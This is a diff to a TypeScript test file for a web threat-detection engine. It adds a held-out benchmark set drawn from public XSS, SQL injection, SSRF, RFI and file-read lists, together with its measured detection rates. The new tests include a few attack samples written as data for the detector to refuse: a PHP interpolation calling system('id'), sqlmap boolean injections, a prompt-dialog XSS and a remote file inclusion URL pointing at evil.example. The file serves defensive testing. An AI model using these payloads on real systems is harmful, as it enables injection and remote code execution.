@@ -6,7 +6,9 @@
  * and crawler user agents, split by a hash into a dev half (where classes are looked for) and a test
  * half (only counted). Set C: HttpParamsDataset's form values and attacks, PayloadsAllTheThings'
  * command list, XSS lists (PortSwigger's cheat sheet, BruteLogic's), SecLists' login-bypass SQL and
- * Windows file list, split the same way. They measure whether the engine generalises beyond the corpora its rules were
+ * Windows file list, split the same way. Set D: lists none of the others use (payloadbox's XSS, quick and
+ * sqlmap SQL, SSRF, RFI, SSI, Linux files), browser user agents, GitHub webhook bodies and generated
+ * form values, split the same way. They measure whether the engine generalises beyond the corpora its rules were
  * tuned on: no rule is written from their lines, and the ceilings and floors only keep a change from
  * doing worse than `bench/detection-heldout.ts` measured. Tighten them when the engine gets better;
  * never loosen them to let a change through.
@@ -15,7 +17,7 @@ import { describe, expect, it } from "@effect/vitest"
 import { Effect } from "effect"
 import { ThreatDetector } from "../../src/ThreatDetector.js"
 import { bodyOf } from "../../src/internal/scanBody.js"
-import { type HeldoutBRow, loadHeldout, loadHeldoutB, loadHeldoutC } from "../fixtures/heldout/heldout.js"
+import { type HeldoutBRow, loadHeldout, loadHeldoutB, loadHeldoutC, loadHeldoutD } from "../fixtures/heldout/heldout.js"
 import { rate, runCorpus, sumTallies } from "./externalCorpus.js"
 import { expectVerdicts } from "./harness.js"
 
@@ -39,6 +41,11 @@ const HELDOUT_RECALL_FLOOR = 0.96
  * a full-text search's string closed with its mode) 0.933 and 0.939. The dev
  * half is where classes are looked for; the test half is only counted, so its failure message names
  * no row. `size` is the least number of attack and benign rows a half holds.
+ *
+ * Set D measured: dev 0.969 (317/327) and 0.000 (0/331); test 0.966 (314/325) and 0.003 (1/288); at
+ * eb5bd00, before the classes its dev half and the webhook examples outside it showed (sqlmap's ELT,
+ * MAKE_SET and counted comparisons, dialogs reached by indirection, ?-cut avatar URLs, diff hunks, a
+ * password's `@{`), 0.948 and 0.957 recall, 1/331 and 3/288 refused.
  */
 const SPLIT_SETS = {
   B: {
@@ -52,6 +59,12 @@ const SPLIT_SETS = {
     size: { attacks: 500, benign: 150 },
     dev: { recall: 0.98, refused: 0.006 },
     test: { recall: 0.97, refused: 0.006 }
+  },
+  D: {
+    load: loadHeldoutD,
+    size: { attacks: 300, benign: 250 },
+    dev: { recall: 0.96, refused: 0.002 },
+    test: { recall: 0.96, refused: 0.004 }
   }
 } as const
 
@@ -152,4 +165,25 @@ describe("classes from held-out set C", () => {
 
   it.effect("refuses PHP's `${@call()}` interpolation in a query or a form body; a template literal passes", () =>
     expectVerdicts(["Total: ${format(price)}", "`/users/${encodeURIComponent(id)}`"], ["${@print(md5(1))}", "x\";${@system('id')};\""]))
+})
+
+/** Classes set D's dev half and the webhook examples outside set D showed, written from their own variants. */
+describe("classes from held-out set D", () => {
+  it.effect("passes a code review webhook body: an avatar URL with an empty query, a diff hunk", () =>
+    Effect.gen(function*() {
+      const detector = yield* Effect.orDie(ThreatDetector.make({ paranoia: 1 }))
+      const text = JSON.stringify({
+        action: "created",
+        comment: { diff_hunk: "@@ -1 +1 @@\n-# Quick start", body: "Typo in the heading?", user: { login: "ann", avatar_url: "https://avatars.example.com/u/7?" } }
+      })
+      const view = yield* bodyOf(new TextEncoder().encode(text), "application/json", false)
+      const result = yield* detector.detect({ path: "/hooks/review", headers: { "content-type": "application/json" }, ...("body" in view ? { body: view.body } : {}) })
+      expect(result.isThreat, result.ruleIds.join(", ")).toBe(false)
+    }))
+
+  it.effect("refuses sqlmap's boolean switches and a dialog reached by indirection; their benign neighbours pass", () =>
+    expectVerdicts(
+      ["ELT(2, 'a', 'b')", "(x=5)*2", "promise.then(console.log)", "https://shop.example/search?"],
+      ["ELT(3904=3904,1187)", "(5150=5150)*3", "[3].some(prompt)", "file=http://evil.example/inc.txt?"]
+    ))
 })
